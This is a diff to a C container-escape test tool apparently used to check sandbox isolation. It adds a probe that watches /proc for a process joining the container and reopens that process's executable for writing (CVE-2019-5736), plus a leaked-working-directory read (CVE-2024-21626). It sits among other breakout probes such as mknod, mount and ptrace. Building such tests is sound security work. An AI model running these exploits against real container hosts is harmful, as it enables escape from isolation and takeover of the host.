@@ -167,6 +167,79 @@ static int cmd_exe(const char *pid, const char *seconds)
 	return outcome(true);
 }
 
+/* The first process other than this one whose argv[0] ends in match ("/launch"), found
+ * within seconds: a process joining the container from the host, caught before its exec.
+ * 0 when none came. */
+static int find_joiner(const char *match, double seconds)
+{
+	struct timespec ts = {0, 5 * 1000000L};
+
+	for (; seconds > 0; seconds -= 0.005) {
+		DIR *d = opendir("/proc");
+		struct dirent *de;
+		int found = 0;
+
+		while (d && !found && (de = readdir(d))) {
+			char path[64], argv0[256] = "";
+			int pid = atoi(de->d_name), fd;
+			ssize_t n;
+
+			if (pid <= 1 || pid == getpid())
+				continue;
+			snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
+			fd = open(path, O_RDONLY | O_CLOEXEC);
+			n = fd < 0 ? -1 : read(fd, argv0, sizeof(argv0) - 1);
+			if (fd >= 0)
+				close(fd);
+			if (n <= 0)
+				continue;
+			argv0[n] = '\0';
+			n = (ssize_t)strlen(argv0);
+			if ((size_t)n >= strlen(match) && !strcmp(argv0 + n - strlen(match), match))
+				found = pid;
+		}
+		if (d)
+			closedir(d);
+		if (found)
+			return found;
+		nanosleep(&ts, NULL);
+	}
+	return 0;
+}
+
+/* CVE-2019-5736 against whatever joins the container: the joiner's /proc/PID/exe, held,
+ * then reopened for writing once the joiner has exec'd its command. */
+static int cmd_exe_watch(const char *match, const char *seconds)
+{
+	char pid[16];
+	int found = find_joiner(match, atof(seconds));
+
+	printf("joiner=%d\n", found);
+	if (!found)
+		return outcome(false);
+	snprintf(pid, sizeof(pid), "%d", found);
+	return cmd_exe(pid, "5");
+}
+
+/* CVE-2024-21626 through the working directory: NAME read relative to the cwd, which must
+ * be the container's (where NAME is not) and not a host directory the joiner came from. */
+static int cmd_cwd(const char *name)
+{
+	char cwd[512] = "", buf[128] = "";
+	int f = open(name, O_RDONLY | O_CLOEXEC);
+	ssize_t n = f < 0 ? -1 : read(f, buf, sizeof(buf) - 1);
+
+	if (!getcwd(cwd, sizeof(cwd)))
+		snprintf(cwd, sizeof(cwd), "%s", errname(errno));
+	printf("cwd=%s\nopen=%s\n", cwd, res(f));
+	if (n > 0) {
+		buf[n] = '\0';
+		buf[strcspn(buf, "\n")] = '\0';
+		printf("content=%s\n", buf);
+	}
+	return outcome(n > 0);
+}
+
 static bool read_some(const char *path)
 {
 	char buf[512];
@@ -735,7 +808,7 @@ static int cmd_conns(const char *ip, const char *port, const char *count, const 
 
 static const char usage[] =
     "usage: attack COMMAND [ARG...]\n"
-    "  chroot | exe PID SECONDS | blockdevs | mknod b|c MAJ:MIN | mount MAJ:MIN FSTYPE\n"
+    "  chroot | exe PID SECONDS | exe-watch ARGV0-SUFFIX SECONDS | cwd NAME | blockdevs | mknod b|c MAJ:MIN | mount MAJ:MIN FSTYPE\n"
     "  open-write PATH | rewrite PATH | module | kill PID | see-pid PID | see-mount PATH\n"
     "  see-net | fd N NAME | keyring | cgroup [FILE] | remount PATH [sb] | userns\n"
     "  masked | tiocsti TEXT | nonblock | ptrace-init attach|hold | families\n"
@@ -752,6 +825,10 @@ int main(int argc, char **argv)
 		r = cmd_chroot();
 	else if (n == 2 && !strcmp(cmd, "exe"))
 		r = cmd_exe(argv[2], argv[3]);
+	else if (n == 2 && !strcmp(cmd, "exe-watch"))
+		r = cmd_exe_watch(argv[2], argv[3]);
+	else if (n == 1 && !strcmp(cmd, "cwd"))
+		r = cmd_cwd(argv[2]);
 	else if (n == 0 && !strcmp(cmd, "blockdevs"))
 		r = cmd_blockdevs();
 	else if (n == 2 && !strcmp(cmd, "mknod"))
